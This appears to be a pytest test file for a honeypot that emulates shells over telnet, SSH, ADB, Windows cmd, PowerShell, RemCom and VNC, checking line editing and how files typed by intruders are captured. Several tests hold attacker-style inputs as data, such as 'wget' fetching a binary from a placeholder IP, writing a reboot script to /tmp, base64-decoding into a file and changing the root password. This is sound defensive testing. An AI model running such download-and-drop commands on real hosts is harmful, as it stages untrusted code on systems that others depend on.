"""What is typed at a terminal, or comes through a pipe, while a command reads it: in every room that has a shell."""

from __future__ import annotations

import struct

import pytest

from eudaemon.events.catalogue import CommandEntered
from eudaemon.protocols import load
from eudaemon.protocols._base import HalfClosed
from eudaemon.protocols._piped import WAITING_BYTES_MAX, Pipe
from eudaemon.protocols._shell import ShellDialogue
from eudaemon.protocols._terminal import Terminal
from eudaemon.protocols.ssh.fields import string
from eudaemon.testing.script import Table, visit
from eudaemon.wire import PeerError, Purse
from eudaemon.world.shell.limits import LINE_BYTES_MAX
from protocols import adb_client
from protocols.ssh_client import logged_in
from protocols.test_remcom import Client as RemComClient
from protocols.test_remcom import begun
from protocols.test_ssh import table as ssh_table
from protocols.test_telnet import HOST, at_shell

SPLITS = pytest.mark.parametrize("split", [0, 1], ids=["whole", "byte by byte"])
PROMPT = HOST.prompt
BINARY = bytes(range(256)) * 20


def entered(table: Table) -> list[CommandEntered]:
    return [fact for fact in table.facts if isinstance(fact, CommandEntered)]


def kept(table: Table) -> list[bytes]:
    table.end()
    return [keep.data for keep in table.kept]


# --- the line discipline --------------------------------------------------------------------------------


@SPLITS
@pytest.mark.parametrize(
    ("keys", "gets", "shows"),
    [
        (b"abc\r", [b"abc\n"], b"abc\r\n"),
        (b"abc\r\n\r\nd\n", [b"abc\n", b"\n", b"d\n"], b"abc\r\n\r\nd\r\n"),
        (b"abx\x7fc\n", [b"abc\n"], b"abx\b \bc\r\n"),
        (b"\x7fa\n", [b"a\n"], b"a\r\n"),
        (b"ab cd\x17ef\n", [b"ab ef\n"], b"ab cd\b \b\b \bef\r\n"),
        (b"ab\x15c\n", [b"c\n"], b"ab\b \b\b \bc\r\n"),
        (b"a\x04", [b"a"], b"a"),
        (b"a\x04\x04", [b"a", b""], b"a"),
        (b"\x04", [b""], b""),
        (b"a\x08b\x01\tc\n", [b"a\x08b\x01\tc\n"], b"a^Hb^A\tc\r\n"),
        (b"\x01\x7fa\n", [b"a\n"], b"^A\b \b\b \ba\r\n"),
        (b"\x16\x03\x16\x16\x16\x7f\n", [b"\x03\x16\x7f\n"], b"^\b^C^\b^V^\b^?\r\n"),
        (b"ab\x12c\n", [b"abc\n"], b"ab^R\r\nabc\r\n"),
        (b"a\x13b\x11c\n", [b"abc\n"], b"abc\r\n"),
        (b"ab\x03cd\n", [3, b"cd\n"], b"ab^C\r\ncd\r\n"),
        (b"ab\x1a", [0x1A], b"ab^Z\r\n"),
        (b"ab\x1c", [0x1C], b"ab^\\Quit\r\n"),
        (b"\xff\xfe\n", [b"\xff\xfe\n"], b"\xff\xfe\r\n"),
    ],
)  # fmt: skip
def test_the_kernels_line_discipline(keys: bytes, gets: list[bytes | int], shows: bytes, split: int) -> None:
    terminal, found, shown = Terminal(Purse(1000)), [], b""
    for piece in [keys[at : at + 1] for at in range(len(keys))] if split else [keys]:
        at = 0
        while at < len(piece):
            at, some, echo = terminal.cook(piece, at)
            found += [] if some is None else [some]
            shown += echo
    assert (found, shown) == (gets, shows)


def test_of_a_line_that_is_too_long_a_command_gets_parts() -> None:
    terminal, data = Terminal(Purse(1 << 20)), b"a" * (LINE_BYTES_MAX + 1) + b"\n"
    at, some, _ = terminal.cook(data, 0)
    assert (at, some) == (LINE_BYTES_MAX, data[:LINE_BYTES_MAX])
    assert terminal.cook(data, at)[1] == b"a\n"


# --- at a terminal --------------------------------------------------------------------------------------


@SPLITS
def test_a_file_is_typed_at_telnet(split: int) -> None:
    talk = at_shell()
    heard = talk.say(b"cat > /tmp/f\r\n#!/bin/sh\r\nreboot\x7f\x7f\r\n\x04", split)
    assert heard == b"cat > /tmp/f\r\n#!/bin/sh\r\nreboot\b \b\b \b\r\n" + PROMPT
    assert talk.say(b"cat /tmp/f\r\n", split).endswith(b"#!/bin/sh\r\nrebo\r\n" + PROMPT)
    assert kept(talk) == [b"#!/bin/sh\nrebo\n"]
    assert entered(talk)[-2].line == "cat > /tmp/f", "what is typed into a file is no command"


@SPLITS
def test_what_ends_a_command_that_reads(split: int) -> None:
    talk = at_shell()
    assert talk.say(b"cat\r\na\x03", split) == b"cat\r\na^C\r\n" + PROMPT
    assert talk.say(b"echo $?\r\n", split).endswith(b"130\r\n" + PROMPT)
    assert talk.say(b"cat\r\na\x1a", split) == b"cat\r\na^Z\r\n[1]+  Stopped                    cat\r\n" + PROMPT
    assert talk.say(b"cat\r\na\r\n\x04", split) == b"cat\r\na\r\na\r\n" + PROMPT
    assert talk.say(b"\x04") == b"", "at the prompt it leaves"
    assert talk.over


@SPLITS
def test_a_secret_is_not_shown_but_stated(split: int) -> None:
    talk = at_shell()
    heard = talk.say(b"passwd\r\ns3cret\r\ns3cret\r\nid -u\r\n", split)
    assert heard == (b"passwd\r\nChanging password for root\r\nNew password: \r\nRetype password: \r\n"
                     b"passwd: password for root changed by root\r\n" + PROMPT + b"id -u\r\n0\r\n"
                     + PROMPT)  # fmt: skip
    assert [fact.line for fact in entered(talk)] == ["passwd", "s3cret", "s3cret", "id -u"]


@SPLITS
def test_read_asks_and_the_line_is_stated(split: int) -> None:
    talk = at_shell()
    assert talk.say(b"nosuch; read -p 'name? ' n; echo hi $n\r\nbob\r\n", split).endswith(
        b"name? bob\r\nhi bob\r\n" + PROMPT)  # fmt: skip
    assert entered(talk) == [
        CommandEntered("nosuch; read -p 'name? ' n; echo hi $n", ("nosuch",)), CommandEntered("bob")]  # fmt: skip


@SPLITS
def test_who_leaves_in_the_middle_leaves_a_part(split: int) -> None:
    talk = at_shell()
    talk.say(b"echo %s > /tmp/whole\r\nbase64 -d > /tmp/part\r\n" % (b"x" * 99), split)
    talk.say(b"QUJDREVGR0hJ\r\nSktM", split)
    talk.end()
    assert sorted((keep.name, keep.data, keep.partial) for keep in talk.kept) == [
        ("/tmp/part", b"ABCDEFGHIJKL", True), ("/tmp/whole", b"x" * 99 + b"\n", False)]  # fmt: skip


def test_what_is_typed_during_a_download_waits_for_the_command_behind_it() -> None:
    talk = at_shell()
    talk.say(b"wget http://198.51.100.7/x; cat > /tmp/f\r\nfor f\r\n\x04echo on\r\n")
    talk.answer("ok", b"\x7fELF")
    assert talk.sent.endswith(b"for f\r\n" + PROMPT + b"echo on\r\non\r\n" + PROMPT)
    assert b"for f\n" in kept(talk)


# --- SSH ------------------------------------------------------------------------------------------------


def test_a_command_on_a_terminal_of_its_own_reads_keys() -> None:
    client = logged_in(ssh_table())
    channel = client.open_session()
    client.terminal(channel)
    client.request(channel, b"exec", string(b"cat > /tmp/f; wc -c < /tmp/f"))
    client.data(channel, b"ab\x7fc\r\x04")
    assert client.output() == b"ab\b \bc\r\n3\r\n"
    assert client.status() == 0
    client = logged_in(ssh_table())
    channel = client.open_session()
    client.terminal(channel)
    client.request(channel, b"exec", string(b"cat"))
    client.data(channel, b"\x03")
    assert client.output() == b"^C\r\n"
    assert client.status() == 130


def test_a_shell_that_is_run_as_a_command_answers_each_line() -> None:
    client = logged_in(ssh_table())
    channel = client.open_session()
    client.request(channel, b"exec", string(b"/bin/sh"))
    client.data(channel, b"id -u\nfor i in 1 2; do\n")
    client.data(channel, b"echo $i; done\nread x\nsaid\necho $x\n")
    assert client.output() == b"0\n1\n2\nsaid\n"
    client.data(channel, b"exit 3\nnever\n")
    assert client.status() == 3
    client.table.end()
    assert any(keep.origin == "script" and keep.data.startswith(b"id -u\nfor") for keep in client.table.kept)


def test_a_shell_without_a_terminal_gives_a_command_the_rest() -> None:
    client = logged_in(ssh_table())
    channel = client.open_session()
    client.request(channel, b"shell")
    client.data(channel, b"read a\none\necho $a\nhead -n 1\ntwo\necho three\ncat > /tmp/f\n\n" + BINARY)
    client.end(channel)
    assert client.output() == b"one\ntwo\nthree\n"
    client.table.end()
    assert b"\n" + BINARY in [keep.data for keep in client.table.kept]


def test_the_program_that_a_channel_runs_gets_bytes_before_and_after_a_download() -> None:
    client = logged_in(ssh_table())
    channel = client.open_session()
    client.request(channel, b"exec", string(b"wget -q http://198.51.100.7/x; cat > /tmp/f"))
    client.data(channel, BINARY[:1000])
    client.table.answer("ok", b"\x7fELF")
    client.data(channel, BINARY[1000:])
    client.end(channel)
    assert client.status() == 0
    client.table.end()
    assert BINARY in [keep.data for keep in client.table.kept]


# --- pipes ----------------------------------------------------------------------------------------------


@SPLITS
@pytest.mark.parametrize("ends", [b"\n", b"\r\n", b"\r"])
def test_lines_and_what_a_command_reads_at_a_pipe(ends: bytes, split: int) -> None:
    talk = Table(load("sh")(visit())).open()
    talk.say(b"cd /tmp%scat > f%s" % (ends, ends), split)
    talk.say(b"\x01" + BINARY, split)
    talk.tell(HalfClosed(talk.at_s))
    assert talk.over
    assert kept(talk) == [b"\x01" + BINARY]


def test_what_no_command_reads_has_a_limit() -> None:
    for takes_lines in (True, False):
        given = visit(purse=Purse(64 << 20))
        pipe = Pipe(ShellDialogue(given), takes_lines=takes_lines)
        list(pipe.run(b"wget http://198.51.100.7/x", 0.0))
        most = WAITING_BYTES_MAX if takes_lines else 16 << 20
        list(pipe.received(bytes(most), 0.0))
        with pytest.raises(PeerError):
            list(pipe.received(b"x", 0.0))


def test_a_line_at_a_pipe_has_a_limit() -> None:
    for past in (0, 1):
        talk = Table(load("sh")(visit(purse=Purse(1 << 20)))).open()
        talk.say(b"#" * (LINE_BYTES_MAX + past))
        talk.say(b"\n")
        assert bool(talk.fault) == bool(past)


def test_a_command_of_the_debug_bridge_has_its_own_terminal() -> None:
    client = adb_client.Client(
        table=Table(load("adb")(visit(host=adb_client.HOSTS["6.0.1"], port=5555))).open()
    ).connect()
    stream = client.open(b"shell:cat > /data/local/tmp/f")
    client.write(stream, b"one\ntw\x7fwo\n\x04")
    client.table.end()
    assert [keep.data for keep in client.table.kept] == [b"one\ntwo\n"]


# --- Windows --------------------------------------------------------------------------------------------


@SPLITS
@pytest.mark.parametrize(
    ("command", "holds"),
    [
        (b"copy con f.txt", b"one\r\ntwo\r\n"), (b"more > f.txt", b"one\r\ntwo\r\n"),
        (b"type con > f.txt", b"one\r\ntwo\r\n"),
        (b'findstr "^" > f.txt', b"one\r\ntwo\r\n"), (b'find /v "" > f.txt', b"one\r\ntwo\r\n"),
        (b"sort /r > f.txt", b"two\r\none\r\n"), (b"copy con+a.txt f.txt", b"one\r\ntwo\r\nthree\r\n"),
    ],
)  # fmt: skip
def test_a_file_is_typed_at_cmd(command: bytes, holds: bytes, split: int) -> None:
    talk = Table(load("cmd")(visit())).open()
    talk.say(b"cd %TEMP%\r\necho three>a.txt\r\n", split)
    talk.say(command + b"\r\none\r\ntwo\r\n\x1a\r\nver\r\n", split)
    assert b"Microsoft Windows" in talk.sent.rpartition(b"ver\r\n")[2]
    assert holds in kept(talk)
    assert "one" not in [fact.line for fact in entered(talk)]


def test_set_p_reads_a_line_and_it_is_stated() -> None:
    talk = Table(load("cmd")(visit())).open()
    talk.say(b"set /p x=who? & call echo hi %x%\r\nbob\r\n")
    assert b"who? " in talk.sent
    assert entered(talk)[-1].line == "bob"


@SPLITS
def test_a_text_over_several_lines_is_typed_at_powershell(split: int) -> None:
    talk = Table(load("cmd")(visit())).open()
    lines = (b"cd %TEMP%", b"powershell", b"$x = @'", b"one $y" * 20, b"'two'", b"'@", b"Set-Content f.txt $x",
             b"foreach ($i in 1,2) {", b"echo \"a$i\"", b"}")  # fmt: skip
    for line in lines:
        talk.say(line + b"\r\n", split)
    assert b"}\r\na1\r\na2\r\n\r\nPS C:" in talk.sent
    assert talk.sent.count(b">> ") == 5
    assert b"one $y\n'two'" in b"".join(kept(talk))


def test_a_file_is_typed_at_psexecs_terminal() -> None:
    memory, own, _ = begun("cmd /c copy con c:\\windows\\temp\\f.txt")
    typing = RemComClient(memory)
    _, keys = typing.create("RemCom_stdinAbCd77")
    assert typing.write(keys, b"one\r\n\x1a\r\n") == 0
    own.later()
    own.table.end()
    assert b"one\r\n" in [keep.data for keep in own.table.kept]


def test_a_file_is_typed_at_the_desktop() -> None:
    from protocols.test_every_room import vnc_login

    talk = Table(load("vnc")(visit())).open()
    talk.say(b"RFB 003.008\n")
    for data in (*vnc_login(), b"\1"):
        talk.say(data)

    def tap(*keys: int, held: int = 0) -> bytes:
        taps = b"".join(struct.pack(">BBxxI", 4, down, key) for key in keys for down in (1, 0))
        return struct.pack(">BBxxI", 4, 1, held) + taps + struct.pack(">BBxxI", 4, 0, held) if held else taps

    talk.say(tap(ord("r"), held=0xFFEB))
    for line in (b"cmd", b"cd %TEMP%", b"copy con f.txt", b"whoami"):
        talk.say(tap(*line, 0xFF0D))
    talk.say(tap(ord("z"), held=0xFFE3) + tap(0xFF0D) + tap(*b"exit", 0xFF0D))
    assert kept(talk) == [b"whoami\r\n"]
